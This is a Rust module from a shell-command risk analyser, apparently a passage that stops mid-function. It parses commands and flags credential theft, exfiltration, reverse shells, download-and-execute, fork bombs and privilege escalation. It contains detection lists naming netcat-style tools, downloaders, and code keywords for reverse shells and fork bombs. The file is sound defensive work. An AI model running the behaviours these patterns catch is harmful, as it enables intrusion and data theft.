//! Dangerous behaviour in shell commands, file paths and URLs.
//!
//! [`analyse_command`] parses the command line as shell, resolves prefixes (`sudo`, `env`, `nohup`, `timeout`,
//! `xargs`, `exec`, …), follows nested code (`bash -c`, `eval`, `python -c`, `perl -e`, substitutions,
//! here-documents, base64 payloads) and applies named rules to each simple command, to each pipeline (what
//! flows into a shell or out to the network) and to the script as a whole (download, `chmod +x`, run).
//! Every finding's evidence is a byte span of the ORIGINAL command string.

use std::borrow::Cow;

use base64::Engine as _;
use serde::{Deserialize, Serialize};

use crate::Span;
use crate::paths::{self, Class};
use crate::shell::{self, MAX_DEPTH, Pipeline, RedirOp, Script, Simple, Src, Stage, Word};

/// A command whose score reaches this is flagged.
pub const FLAG_THRESHOLD: u8 = 50;

/// What a finding is about (MITRE ATT&CK tactics, roughly).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
#[non_exhaustive]
pub enum Category {
    CredentialAccess,
    Exfiltration,
    Destructive,
    PrivilegeEscalation,
    Persistence,
    DefenseEvasion,
    RemoteShell,
    DownloadExecute,
}

impl Category {
    pub const ALL: [Category; 8] = [
        Self::CredentialAccess,
        Self::Exfiltration,
        Self::Destructive,
        Self::PrivilegeEscalation,
        Self::Persistence,
        Self::DefenseEvasion,
        Self::RemoteShell,
        Self::DownloadExecute,
    ];

    /// The serde (snake_case) name.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::CredentialAccess => "credential_access",
            Self::Exfiltration => "exfiltration",
            Self::Destructive => "destructive",
            Self::PrivilegeEscalation => "privilege_escalation",
            Self::Persistence => "persistence",
            Self::DefenseEvasion => "defense_evasion",
            Self::RemoteShell => "remote_shell",
            Self::DownloadExecute => "download_execute",
        }
    }
}

/// One rule that matched.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub struct Finding {
    pub category: Category,
    /// The rule's name, e.g. `ssh_private_key_read`.
    pub rule: Cow<'static, str>,
    /// Byte offsets into the analysed string.
    pub evidence: Span,
    /// 0–100.
    pub score: u8,
}

/// The result of [`analyse_command`].
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct CommandAnalysis {
    /// Sorted by evidence start, then by descending score.
    pub findings: Vec<Finding>,
    /// 0–100: the highest finding's score plus 5 for each further category at or above [`FLAG_THRESHOLD`].
    pub score: u8,
}

impl CommandAnalysis {
    pub fn flagged(&self) -> bool {
        self.score >= FLAG_THRESHOLD
    }

    /// The highest-scoring finding (the first of equals).
    pub fn top(&self) -> Option<&Finding> {
        self.findings.iter().fold(None, |best: Option<&Finding>, f| match best {
            Some(b) if b.score >= f.score => Some(b),
            _ => Some(f),
        })
    }
}

/// Sensitive reads and writes of `path` (`write` selects which).
pub fn analyse_path(path: &str, write: bool) -> Vec<Finding> {
    let class = if write { paths::classify_write(path) } else { paths::classify_read(path) };
    class.into_iter().map(|c| finding(c, Span::new(0, path.len()))).collect()
}

/// Risky destinations: raw IPs, paste and transfer sites, request catchers and tunnels, cleartext transport.
pub fn analyse_url(url: &str) -> Vec<Finding> {
    paths::classify_url(url).into_iter().map(|c| finding(c, Span::new(0, url.len()))).collect()
}

fn finding((category, rule, score): Class, evidence: Span) -> Finding {
    Finding { category, rule: Cow::Borrowed(rule), evidence, score }
}

/// Analyses one command line (possibly a whole script).
pub fn analyse_command(cmd: &str) -> CommandAnalysis {
    let mut cx = Cx::default();
    let src = Src::top(cmd);
    cx.source(&src, 0);
    let mut findings = cx.findings;
    // One finding per rule and evidence: keep the highest score.
    findings.sort_by(|a, b| {
        (a.evidence.start, a.evidence.end, &a.rule, b.score).cmp(&(b.evidence.start, b.evidence.end, &b.rule, a.score))
    });
    findings.dedup_by(|a, b| a.rule == b.rule && a.evidence == b.evidence);
    findings.sort_by(|a, b| (a.evidence.start, b.score).cmp(&(b.evidence.start, a.score)));
    let max = findings.iter().map(|f| f.score).max().unwrap_or(0);
    let mut cats: Vec<Category> = findings.iter().filter(|f| f.score >= FLAG_THRESHOLD).map(|f| f.category).collect();
    cats.sort();
    cats.dedup();
    let bonus = u8::try_from(cats.len().saturating_sub(1) * 5).unwrap_or(100);
    CommandAnalysis { score: max.saturating_add(bonus).min(100), findings }
}

/// Analysis state for one command line.
#[derive(Default)]
struct Cx {
    findings: Vec<Finding>,
    /// Files written by a downloader: (normalised path, basename).
    downloads: Vec<(String, String)>,
    /// A systemd unit or launchd plist was written earlier in the script.
    wrote_service: bool,
    /// Bounded work: nested sources analysed so far.
    sources: usize,
    /// Whether the script being analysed will be executed as code (a substitution used as a command or given
    /// to `eval` / `sh -c`), which decides whether decoded payloads count in full.
    exec_context: bool,
    /// Variables assigned the output of a download (`x=$(curl …)`).
    download_vars: Vec<String>,
}

const MAX_SOURCES: usize = 256;

const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "fish", "csh", "tcsh"];
const DOWNLOADERS: &[&str] = &[
    "curl",
    "wget",
    "fetch",
    "http",
    "https",
    "xh",
    "aria2c",
    "lwp-download",
    "lwp-request",
    "GET",
    "wget2",
    "curlie",
];
const RAW_NET: &[&str] =
    &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat", "telnet", "cryptcat", "pwncat"];

fn is_python(n: &str) -> bool {
    n == "python" || n.starts_with("python2") || n.starts_with("python3") || n == "pypy" || n == "pypy3"
}

fn is_interpreter(n: &str) -> bool {
    SHELLS.contains(&n)
        || is_python(n)
        || ["perl", "ruby", "php", "node", "nodejs", "deno", "bun", "lua", "pwsh", "powershell", "tclsh", "osascript"]
            .contains(&n)
}

/// A simple command after its prefixes (`sudo`, `env`, …) are stripped.
struct Cmd<'a> {
    /// Lower-cased basename of the program, or the prefix itself when nothing follows it.
    name: String,
    /// The program word (absent for assignment-only commands).
    word: Option<&'a Word>,
    /// Its index in `simple.words`; the arguments follow it.
    word_idx: Option<usize>,
    args: Vec<&'a Word>,
    sudo: bool,
    /// `sudo -i`, `sudo -s`.
    sudo_shell: bool,
    xargs: bool,
    /// `VAR=value` words: before the command and given to `env`.
    assigns: Vec<&'a Word>,
    simple: &'a Simple,
}

impl Cmd<'_> {
    fn arg_texts(&self) -> impl Iterator<Item = &str> {
        self.args.iter().map(|w| w.text.as_str())
    }
    fn has_arg(&self, a: &str) -> bool {
        self.arg_texts().any(|t| t == a)
    }
    /// A short flag (in any cluster like `-rf`) or a long flag.
    fn has_flag(&self, short: char, long: &str) -> bool {
        self.arg_texts().any(|t| {
            if let Some(l) = t.strip_prefix("--") {
                !long.is_empty() && (l == long || l.starts_with(&format!("{long}=")))
            } else if let Some(s) = t.strip_prefix('-') {
                short != '\0' && s.chars().all(|c| c.is_ascii_alphanumeric()) && s.contains(short)
            } else {
                false
            }
        })
    }
    fn positionals(&self) -> Vec<&Word> {
        let mut out = Vec::new();
        let mut rest = false;
        for w in &self.args {
            if rest || !w.text.starts_with('-') || w.text == "-" {
                out.push(*w);
            } else if w.text == "--" {
                rest = true;
            }
        }
        out
    }
    fn span(&self) -> Span {
        self.simple.span
    }
    fn sub(&self, n: usize) -> Option<&str> {
        self.positionals().get(n).map(|w| w.text.as_str())
    }
}

/// Values of an option, in the forms `-o V`, `-oV`, `--opt V`, `--opt=V`, with the word holding the value.
fn opt_values<'a>(args: &[&'a Word], shorts: &[char], longs: &[&str], value_shorts: &str) -> Vec<(&'a Word, String)> {
    let mut out = Vec::new();
    let mut i = 0;
    while let Some(w) = args.get(i) {
        let t = w.text.as_str();
        if t == "--" {
            break;
        }
        if let Some(l) = t.strip_prefix("--") {
            let (name, val) = match l.split_once('=') {
                Some((n, v)) => (n, Some(v.to_owned())),
                None => (l, None),
            };
            if longs.contains(&name) {
                match val {
                    Some(v) => out.push((*w, v)),
                    None => {
                        if let Some(n) = args.get(i + 1) {
                            out.push((*n, n.text.clone()));
                            i += 1;
                        }
                    }
                }
            }
        } else if let Some(s) = t.strip_prefix('-') {
            // A cluster: flags until one that takes a value; the rest (or the next word) is its value.
            for (j, c) in s.char_indices() {
                if value_shorts.contains(c) || shorts.contains(&c) {
                    let rest = s.get(j + c.len_utf8()..).unwrap_or_default();
                    let is_ours = shorts.contains(&c);
                    if rest.is_empty() {
                        if let Some(n) = args.get(i + 1) {
                            if is_ours {
                                out.push((*n, n.text.clone()));
                            }
                            i += 1;
                        }
                    } else if is_ours {
                        out.push((*w, rest.to_owned()));
                    }
                    break;
                }
            }
        }
        i += 1;
    }
    out
}

/// Non-option arguments, skipping the values of options that take one.
fn operands<'a>(args: &[&'a Word], value_shorts: &str, value_longs: &[&str]) -> Vec<&'a Word> {
    let mut out = Vec::new();
    let mut i = 0;
    let mut rest = false;
    while let Some(w) = args.get(i) {
        let t = w.text.as_str();
        if rest || !t.starts_with('-') || t == "-" {
            out.push(*w);
        } else if t == "--" {
            rest = true;
        } else if let Some(l) = t.strip_prefix("--") {
            if !l.contains('=') && value_longs.contains(&l) {
                i += 1;
            }
        } else if let Some(s) = t.strip_prefix('-')
            && let Some((j, c)) = s.char_indices().find(|(_, c)| value_shorts.contains(*c))
            && s.get(j + c.len_utf8()..).unwrap_or_default().is_empty()
        {
            i += 1;
        }
        i += 1;
    }
    out
}

fn lc_basename(t: &str) -> String {
    let t = t.trim_start_matches('\\');
    paths::basename(t).to_ascii_lowercase()
}

/// Strips prefixes and keywords from a simple command.
fn resolve(simple: &Simple) -> Cmd<'_> {
    let words: Vec<&Word> = simple.words.iter().collect();
    let mut assigns: Vec<&Word> = simple.assigns.iter().collect();
    let mut i = 0usize;
    let mut sudo = false;
    let mut sudo_shell = false;
    let mut xargs = false;
    let mut last_prefix: Option<String> = None;
    let mut guard = 0;
    while let Some(w) = words.get(i) {
        guard += 1;
        if guard > 64 {
            break;
        }
        let name = lc_basename(&w.text);
        let keyword = !w.quoted
            && ["if", "then", "else", "elif", "do", "while", "until", "!", "{", "}", "done", "fi", "esac", "function"]
                .contains(&name.as_str());
        if keyword {
            i += 1;
            continue;
        }
        // Skips options of a prefix; `with_value` are the short options that take a value.
        let skip_opts = |i: &mut usize, with_value: &str, long_value: &[&str]| {
            *i += 1;
            while let Some(a) = words.get(*i) {
                let t = a.text.as_str();
                if t == "--" {
                    *i += 1;
                    break;
                }
                if !t.starts_with('-') || t == "-" {
                    break;
                }
                if let Some(l) = t.strip_prefix("--") {
                    *i += 1;
                    if !l.contains('=') && long_value.contains(&l) {
                        *i += 1;
                    }
                    continue;
                }
                let s = t.get(1..).unwrap_or_default();
                *i += 1;
                if let Some((j, c)) = s.char_indices().find(|(_, c)| with_value.contains(*c))
                    && s.get(j + c.len_utf8()..).unwrap_or_default().is_empty()
                {
                    *i += 1;
                }
            }
        };
        match name.as_str() {
            "sudo" | "doas" | "please" => {
                sudo = true;
                let start = i + 1;
                skip_opts(
                    &mut i,
                    "ugCDhprtTUc",
                    &[
                        "user",
                        "group",
                        "chdir",
                        "host",
                        "prompt",
                        "role",
                        "type",
                        "other-user",
                        "close-from",
                        "command-timeout",
                    ],
                );
                let opts: Vec<&str> =
                    words.iter().skip(start).take(i.saturating_sub(start)).map(|w| w.text.as_str()).collect();
                if opts.iter().any(|o| {
                    (o.starts_with('-') && !o.starts_with("--") && (o.contains('i') || o.contains('s')))
                        || *o == "--login"
                        || *o == "--shell"
                }) {
                    sudo_shell = true;
                }
            }
            "env" => {
                i += 1;
                while let Some(a) = words.get(i) {
                    let t = a.text.as_str();
                    if shell::is_assignment(t) {
                        assigns.push(a);
                        i += 1;
                    } else if t == "-u" || t == "-C" || t == "--unset" || t == "--chdir" {
                        i += 2;
                    } else if t.starts_with('-') {
                        i += 1;
                    } else {
                        break;
                    }
                }
            }
            "busybox" | "toybox" => i += 1,
            "nohup" | "exec" | "command" | "builtin" | "setsid" | "chronic" | "unbuffer" | "caffeinate"
            | "torsocks" | "proxychains" | "proxychains4" | "time" | "stdbuf" | "nice" | "ionice" | "strace"
            | "ltrace" | "runuser" | "flock" | "catchsegv" | "eatmydata" | "fakeroot" | "firejail" | "sg" | "watch" => {
                if name == "command" && words.get(i + 1).is_some_and(|w| w.text == "-v" || w.text == "-V") {
                    break;
                }
                skip_opts(&mut i, "anoeiucgpsSuLf", &["output", "user", "group", "signal", "interval"]);
                if name == "flock" || name == "sg" {
                    i += 1; // the lock file / group
                }
            }
            "timeout" | "gtimeout" => {
                skip_opts(&mut i, "sk", &["signal", "kill-after"]);
                i += 1; // the duration
            }
            "chroot" => {
                skip_opts(&mut i, "", &["userspec", "groups"]);
                i += 1;
            }
            "xargs" => {
                xargs = true;
                skip_opts(
                    &mut i,
                    "IinPLdEsa",
                    &["replace", "max-args", "max-procs", "max-lines", "delimiter", "eof", "max-chars", "arg-file"],
                );
            }
            _ => break,
        }
        last_prefix = Some(name);
    }
    let (name, word, word_idx, args) = match words.get(i) {
        Some(w) => (lc_basename(&w.text), Some(*w), Some(i), words.iter().skip(i + 1).copied().collect()),
        None => (last_prefix.unwrap_or_default(), None, None, Vec::new()),
    };
    Cmd { name, word, word_idx, args, sudo, sudo_shell, xargs, assigns, simple }
}

/// What a pipeline stage does, as far as data flow goes.
#[derive(Default, Clone, Copy)]
struct Flow {
    download_stdout: bool,
    decode: bool,
    raw_net: bool,
    stdin_interpreter: bool,
    shell_stage: bool,
    env_dump: bool,
    sensitive_read: bool,
    archive_or_encode: bool,
    file_read: bool,
    literal: bool,
    net_sender: bool,
    dns_via_xargs: bool,
    db_client: bool,
    crontab_stdin: bool,
    token_print: bool,
}

impl Cx {
    fn add(&mut self, c: Class, evidence: Span) {
        self.findings.push(finding(c, evidence));
    }

    fn source(&mut self, src: &Src, depth: usize) {
        if depth > MAX_DEPTH || self.sources >= MAX_SOURCES {
            return;
        }
        self.sources += 1;
        let script = shell::parse(src, depth);
        self.script(&script, depth);
    }

    fn script(&mut self, s: &Script, depth: usize) {
        for p in &s.pipelines {
            self.pipeline(p, depth);
        }
    }

    fn word_subs(&mut self, w: &Word, depth: usize, exec: bool) {
        let saved = self.exec_context;
        self.exec_context = exec;
        for sub in &w.subs {
            self.script(sub, depth + 1);
        }
        self.exec_context = saved;
    }

    /// Runs `f`; findings it adds are capped at `cap` (payloads that are decoded but not executed).
    fn capped(&mut self, cap: Option<u8>, f: impl FnOnce(&mut Self)) {
        let before = self.findings.len();
        f(self);
        if let Some(cap) = cap {
            for x in self.findings.iter_mut().skip(before) {
                x.score = x.score.min(cap);
            }
        }
    }

    fn pipeline(&mut self, p: &Pipeline, depth: usize) {
        // Per stage: the resolved commands (a group contributes all of its commands).
        let mut stages: Vec<Vec<(Cmd<'_>, Flow)>> = Vec::new();
        for st in &p.stages {
            match st {
                Stage::Simple(s) => {
                    let c = resolve(s);
                    let f = self.flow(&c);
                    stages.push(vec![(c, f)]);
                }
                Stage::Group { body, redirs } => {
                    self.script(body, depth);
                    let dummy = Simple { redirs: redirs.clone(), ..Simple::default() };
                    self.redirections(&resolve(&dummy), depth, None);
                    // Data flow only matters between stages; a bounded number of a group's commands take part.
                    let cmds: Vec<(Cmd<'_>, Flow)> = if p.stages.len() > 1 {
                        body.simples()
                            .into_iter()
                            .take(64)
                            .map(|s| {
                                let c = resolve(s);
                                let f = self.flow(&c);
                                (c, f)
                            })
                            .collect()
                    } else {
                        Vec::new()
                    };
                    stages.push(cmds);
                }
                Stage::FuncDef { name, body, span } => {
                    self.fork_bomb(name, body, *span);
                    self.script(body, depth);
                    stages.push(Vec::new());
                }
            }
        }
        for (i, stage) in stages.iter().enumerate() {
            for (c, _) in stage {
                let upstream: Vec<&(Cmd<'_>, Flow)> = stages.iter().take(i).flatten().collect();
                self.simple(c, &upstream, depth);
            }
        }
        self.pipeline_rules(&stages, depth);
    }

    fn fork_bomb(&mut self, name: &str, body: &Script, span: Span) {
        let recursive = body.pipelines.iter().any(|p| {
            let calls = p
                .stages
                .iter()
                .flat_map(Stage::simples)
                .filter(|s| s.words.first().is_some_and(|w| w.text == name))
                .count();
            calls >= 2 || (calls >= 1 && p.background)
        });
        if recursive {
            self.add((Category::Destructive, "fork_bomb", 95), span);
        }
    }

    fn flow(&self, c: &Cmd<'_>) -> Flow {
        let n = c.name.as_str();
        let mut f = Flow::default();
        let has_file_arg = c.positionals().iter().any(|w| !w.text.starts_with('-'));
        if DOWNLOADERS.contains(&n) {
            let out = opt_values(
                &c.args,
                &['o', 'O'],
                &["output", "output-document", "remote-name"],
                "dFTXHuAexbcKmwrECUYyzQtP",
            );
            let to_stdout = match n {
                "wget" | "wget2" => {
                    out.iter().any(|(_, v)| v == "-")
                        || c.arg_texts().any(|t| t == "-O-" || t.ends_with("O-") && t.starts_with('-'))
                }
                _ => {
                    out.iter().all(|(_, v)| v == "-" || v.is_empty())
                        && !c.has_flag('O', "remote-name")
                        && !c.has_flag('\0', "remote-name-all")
                }
            };
            let redirected = c.simple.redirs.iter().any(|r| r.op.writes() && r.fd.is_none_or(|fd| fd == 1));
            f.download_stdout = to_stdout && !redirected;
            f.net_sender =
                n != "wget" || c.arg_texts().any(|t| t.starts_with("--post-file") || t.starts_with("--body-file"));
            if n == "curl" || n == "curlie" {
                f.net_sender = upload_values(c).iter().any(|(_, v, _)| v == "-" || v == ".");
            }
        }
        if n == "base64" && (c.has_flag('d', "decode") || c.has_flag('D', ""))
            || n == "openssl"
                && c.has_arg("-d")
                && c.arg_texts().any(|t| t == "base64" || t == "-base64" || t == "-a" || t == "enc")
            || n == "xxd" && c.has_flag('r', "")
            || n == "base32" && c.has_flag('d', "decode")
            || n == "uudecode"
            || n == "rev"
        {
            f.decode = true;
        }
        if RAW_NET.contains(&n) || n == "openssl" && c.has_arg("s_client") {
            f.raw_net = true;
            f.net_sender = true;
        }
        if ["mail", "mailx", "sendmail", "mutt", "swaks", "rclone"].contains(&n) && (n != "rclone" || c.has_arg("rcat"))
        {
            f.net_sender = true;
        }
        if n == "ssh" && !c.positionals().is_empty() {
            f.net_sender = true;
        }
        if (n == "aws" || n == "gsutil") && c.args.iter().any(|w| w.text == "-") {
            f.net_sender = true;
        }
        if c.xargs && ["dig", "nslookup", "host", "ping", "drill", "curl", "wget"].contains(&n) {
            f.dns_via_xargs = true;
        }
        if is_interpreter(n) {
            let code_flag = c.arg_texts().any(|t| {
                ["-c", "-e", "-E", "-r", "--eval", "-p", "-Command", "-EncodedCommand", "-enc"].contains(&t)
                    || t.starts_with("-c")
                        && SHELLS.contains(&n)
                        && t.len() > 2
                        && t.bytes().skip(1).all(|b| b.is_ascii_alphabetic())
                        && t.contains('c')
            });
            let module = c.has_arg("-m");
            let script_arg = c.positionals().iter().any(|w| w.text != "-" && !w.text.starts_with('-'));
            f.stdin_interpreter = !code_flag && !module && (!script_arg || c.has_arg("-") || c.has_flag('s', ""));
            f.shell_stage = SHELLS.contains(&n) && !code_flag;
        }
        if ["printenv", "env", "set", "export", "declare", "typeset", "compgen"].contains(&n) {
            let dump = match n {
                "printenv" => c.args.is_empty(),
                "env" => c.word.is_none() && c.args.is_empty(),
                "set" => c.args.is_empty(),
                "export" | "declare" | "typeset" => {
                    c.args.iter().all(|w| w.text == "-p" || w.text == "-x" || w.text == "-px")
                }
                _ => c.has_arg("-v") || c.has_arg("-e"),
            };
            f.env_dump = dump;
        }
        if ["gcloud", "az", "gh", "aws", "kubectl", "vault"].contains(&n) && token_print(c).is_some() {
            f.token_print = true;
        }
        let readers = [
            "cat",
            "tac",
            "head",
            "tail",
            "less",
            "more",
            "strings",
            "xxd",
            "od",
            "hexdump",
            "base64",
            "base32",
            "gzip",
            "bzip2",
            "xz",
            "zstd",
            "tar",
            "zip",
            "7z",
            "gpg",
            "openssl",
            "dd",
            "cpio",
            "find",
            "grep",
            "awk",
            "sed",
            "sqlite3",
            "pg_dump",
            "mysqldump",
            "history",
            "ls",
            "ps",
            "jq",
        ];
        if readers.contains(&n) && has_file_arg || c.simple.redirs.iter().any(|r| r.op == RedirOp::In) {
            f.file_read = true;
        }
        if [
            "tar",
            "zip",
            "7z",
            "base64",
            "base32",
            "xxd",
            "od",
            "hexdump",
            "gzip",
            "bzip2",
            "xz",
            "zstd",
            "gpg",
            "cpio",
            "pg_dump",
            "mysqldump",
            "mongodump",
        ]
        .contains(&n)
            || n == "openssl" && c.has_arg("enc")
        {
            f.archive_or_encode = true;
        }
        if ["echo", "printf"].contains(&n)
            || c.simple.redirs.iter().any(|r| matches!(r.op, RedirOp::HereDoc | RedirOp::HereString)) && n == "cat"
        {
            f.literal = true;
        }
        f.sensitive_read = self.reads_sensitive(c);
        if [
            "psql",
            "mysql",
            "mariadb",
            "sqlite3",
            "sqlcmd",
            "clickhouse-client",
            "cockroach",
            "mongo",
            "mongosh",
            "redis-cli",
        ]
        .contains(&n)
        {
            f.db_client = true;
        }
        if n == "crontab" && (c.args.is_empty() || c.has_arg("-")) {
            f.crontab_stdin = true;
        }
        f
    }

    fn reads_sensitive(&self, c: &Cmd<'_>) -> bool {
        let from_args = !NON_READERS.contains(&c.name.as_str())
            && c.args.iter().any(|w| arg_paths(&w.text).iter().any(|p| paths::is_sensitive(p)));
        let from_redirs = c
            .simple
            .redirs
            .iter()
            .any(|r| r.op.reads() && r.target.as_ref().is_some_and(|t| paths::is_sensitive(&t.text)));
        from_args || from_redirs
    }

    /// Text written by an upstream `echo`/`printf` (for content checks of files it ends up in).
    fn upstream_literal(upstream: &[&(Cmd<'_>, Flow)]) -> String {
        upstream
            .iter()
            .filter(|(c, _)| c.name == "echo" || c.name == "printf")
            .flat_map(|(c, _)| c.args.iter().map(|w| w.text.clone()))
            .collect::<Vec<_>>()
            .join(" ")
    }

    fn pipeline_rules(&mut self, stages: &[Vec<(Cmd<'_>, Flow)>], depth: usize) {
        use Category::*;
        let span_of = |i: usize| -> Option<Span> {
            let st = stages.get(i)?;
            let s = st.first()?.0.span();
            let e = st.last()?.0.span();
            Some(Span::new(s.start, e.end))
        };
        let join = |a: usize, b: usize| -> Span {
            match (span_of(a), span_of(b)) {
                (Some(x), Some(y)) => Span::new(x.start.min(y.start), x.end.max(y.end)),
                (Some(x), None) | (None, Some(x)) => x,
                _ => Span::default(),
            }
        };
        let any = |i: usize, f: &dyn Fn(&Flow) -> bool| stages.get(i).is_some_and(|st| st.iter().any(|(_, fl)| f(fl)));
        let n = stages.len();
        for j in 0..n {
            for i in 0..j {
                if any(j, &|f| f.stdin_interpreter) {
                    if any(i, &|f| f.download_stdout) {
                        self.add((DownloadExecute, "download_piped_to_interpreter", 90), join(i, j));
                    }
                    if any(i, &|f| f.decode) {
                        self.add((DefenseEvasion, "decoded_payload_executed", 55), join(i, j));
                    }
                    if any(i, &|f| f.raw_net) && any(j, &|f| f.shell_stage) {
                        self.add((RemoteShell, "network_input_to_shell", 90), join(i, j));
                    }
                }
                if any(i, &|f| f.shell_stage || f.stdin_interpreter)
                    && any(j, &|f| f.raw_net)
                    && stages.get(i).is_some_and(|st| st.iter().any(|(c, _)| SHELLS.contains(&c.name.as_str())))
                {
                    self.add((RemoteShell, "shell_output_to_network", 90), join(i, j));
                }
                if any(j, &|f| f.net_sender || f.dns_via_xargs) {
                    let sender_raw = any(j, &|f| f.raw_net || f.dns_via_xargs);
                    if any(i, &|f| f.env_dump) {
                        self.add((CredentialAccess, "environment_dump_to_network", 85), join(i, j));
                        self.add((Exfiltration, "environment_exfiltration", 85), join(i, j));
                    } else if any(i, &|f| f.sensitive_read) {
                        self.add((Exfiltration, "sensitive_data_to_network", 90), join(i, j));
                    } else if any(i, &|f| f.token_print) {
                        self.add((CredentialAccess, "token_to_network", 85), join(i, j));
                        self.add((Exfiltration, "token_exfiltration", 80), join(i, j));
                    } else if any(i, &|f| f.archive_or_encode) {
                        self.add((Exfiltration, "archive_to_network", 70), join(i, j));
                    } else if any(i, &|f| f.file_read) {
                        let score = if sender_raw { 70 } else { 45 };
                        self.add((Exfiltration, "file_to_network", score), join(i, j));
                    }
                }
                if any(j, &|f| f.crontab_stdin) {
                    self.add((Persistence, "crontab_from_pipeline", 80), join(i, j));
                }
                if any(j, &|f| f.db_client) && any(i, &|f| f.literal) {
                    let text = Self::upstream_literal(
                        &stages.get(i).map(|st| st.iter().collect::<Vec<_>>()).unwrap_or_default(),
                    );
                    if let Some(c) = sql_danger(&text) {
                        self.add(c, join(i, j));
                    }
                }
                if any(j, &|f| f.stdin_interpreter) && any(i, &|f| f.literal) {
                    // `echo 'cmd' | sh`: analyse what is echoed as code.
                    if let Some(st) = stages.get(i) {
                        for (c, _) in st.iter().filter(|(c, _)| c.name == "echo" || c.name == "printf") {
                            let interp =
                                stages.get(j).and_then(|s| s.first()).map(|(c, _)| c.name.clone()).unwrap_or_default();
                            self.literal_args_as_code(c, &interp, depth);
                        }
                    }
                }
            }
        }
        // Base64 / hex payloads decoded anywhere in the pipeline are analysed as code.
        for j in 0..n {
            if !any(j, &|f| f.decode) {
                continue;
            }
            let hex = stages.get(j).is_some_and(|st| st.iter().any(|(c, _)| c.name == "xxd"));
            let runner =
                stages.iter().skip(j + 1).flatten().find(|(_, f)| f.stdin_interpreter).map(|(c, _)| c.name.clone());
            // Decoded but not run: still analysed, but only as a hint.
            let cap = if runner.is_some() || self.exec_context { None } else { Some(40) };
            let interp = runner.unwrap_or_else(|| "sh".to_owned());
            self.capped(cap, |cx| {
                for (i, st) in stages.iter().enumerate().take(j + 1) {
                    for (c, _) in st {
                        if i < j && (c.name == "echo" || c.name == "printf" || c.name == "cat") {
                            for w in &c.args {
                                cx.decode_literal(w, hex, &interp, depth);
                            }
                        }
                        for r in &c.simple.redirs {
                            if let Some(b) =
                                r.body.as_ref().or(if r.op == RedirOp::HereString { r.target.as_ref() } else { None })
                            {
                                cx.decode_literal(b, hex, &interp, depth);
                            }
                        }
                    }
                }
            });
        }
    }

    fn literal_args_as_code(&mut self, c: &Cmd<'_>, interp: &str, depth: usize) {
        let args: Vec<&Word> =
            c.args.iter().copied().filter(|w| !(w.text.starts_with('-') && w.text.len() <= 3)).collect();
        match args.as_slice() {
            [one] => self.code(interp, one, depth + 1, c),
            [first, .., last] => {
                let text = args.iter().map(|w| w.text.as_str()).collect::<Vec<_>>().join(" ");
                let text = if c.name == "printf" { text.replace("\\n", "\n") } else { text };
                let src = Src::opaque(text, Span::new(first.span.start, last.span.end));
                self.code_src(interp, &src, depth + 1, c);
            }
            [] => {}
        }
    }

    /// Decodes a base64 (or hex) literal and analyses the payload as `interp` code.
    fn decode_literal(&mut self, w: &Word, hex: bool, interp: &str, depth: usize) {
        let t = w.text.trim();
        if t.len() < 8 || depth >= MAX_DEPTH {
            return;
        }
        let bytes = if hex { decode_hex(t) } else { decode_b64(t) };
        let Some(text) = bytes.and_then(|b| String::from_utf8(b).ok()) else { return };
        let src = Src::opaque(text, w.span);
        let dummy = Simple::default();
        let c = resolve(&dummy);
        self.code_src(interp, &src, depth + 1, &c);
    }

    /// Analyses inline code in `w` for the interpreter `interp`.
    fn code(&mut self, interp: &str, w: &Word, depth: usize, c: &Cmd<'_>) {
        let src = w.as_src();
        self.code_src(interp, &src, depth, c);
    }

    fn code_src(&mut self, interp: &str, src: &Src, depth: usize, c: &Cmd<'_>) {
        if SHELLS.contains(&interp) || interp == "eval" || interp == "su" || interp.is_empty() {
            self.source(src, depth);
        } else {
            self.script_code(src, depth, c);
        }
    }

    /// Inline code of python, perl, ruby, php, node, awk, lua, powershell.
    fn script_code(&mut self, src: &Src, depth: usize, c: &Cmd<'_>) {
        use Category::*;
        let code = src.text.as_str();
        let lc = code.to_ascii_lowercase();
        let whole = src.orig(0, code.len());
        let has = |ms: &[&str]| ms.iter().any(|m| lc.contains(m));
        let socket = has(&[
            "socket",
            "fsockopen",
            "stream_socket_client",
            "require('net')",
            "require(\"net\")",
            "net.connect",
            "io::socket",
            "/inet/tcp",
            "/inet/udp",
            "tcpclient",
            "new-object net.sockets",
        ]);
        let spawn = has(&[
            "subprocess",
            "pty.spawn",
            "os.dup2",
            "/bin/sh",
            "/bin/bash",
            "\"sh\"",
            "'sh'",
            "\"bash\"",
            "'bash'",
            "exec(",
            "exec ",
            "system(",
            "popen",
            "proc_open",
            "shell_exec",
            "passthru",
            "spawn(",
            "child_process",
            "cmd.exe",
            "getline",
            "iex",
            "invoke-expression",
        ]);
        if socket && spawn {
            self.add((RemoteShell, "script_reverse_shell", 95), whole);
        }
        let fetch = has(&[
            "urllib",
            "urlopen",
            "requests.get",
            "requests.post",
            "http.client",
            "lwp::",
            "get(\"http",
            "get('http",
            "open-uri",
            "uri.open",
            "net::http",
            "file_get_contents(\"http",
            "file_get_contents('http",
            "https.get",
            "http.get",
            "fetch(",
            "curl_exec",
            "downloadstring",
            "webclient",
            "invoke-webrequest",
            "iwr ",
            "wget ",
            "curl ",
        ]);
        let exec = has(&[
            "exec(",
            "eval(",
            "eval ",
            "os.system",
            "subprocess",
            "system(",
            "iex",
            "invoke-expression",
            "compile(",
            "instance_eval",
            "new function(",
            "include(",
            "require(\"http",
            "shell_exec",
            "passthru",
            "| sh",
            "|sh",
            "| bash",
            "|bash",
        ]);
        if fetch && exec {
            self.add((DownloadExecute, "script_download_execute", 90), whole);
        }
        if has(&[
            "fork while fork",
            "fork() while",
            "while 1: os.fork",
            "while true: os.fork",
            "while(1){fork",
            "while(true){fork",
        ]) || (lc.contains("os.fork()") && lc.contains("while"))
        {
            self.add((Destructive, "fork_bomb", 90), whole);
        }
        if has(&["os.setuid(0)", "setuid(0)", "posix::setuid(0)", "$<=0", "$< = 0", "process.setuid(0)"]) {
            self.add((PrivilegeEscalation, "setuid_root_in_code", 80), whole);
        }
        if c.sudo && spawn && has(&["/bin/sh", "/bin/bash", "\"sh\"", "'sh'", "pty.spawn", "\"bash\"", "'bash'"]) {
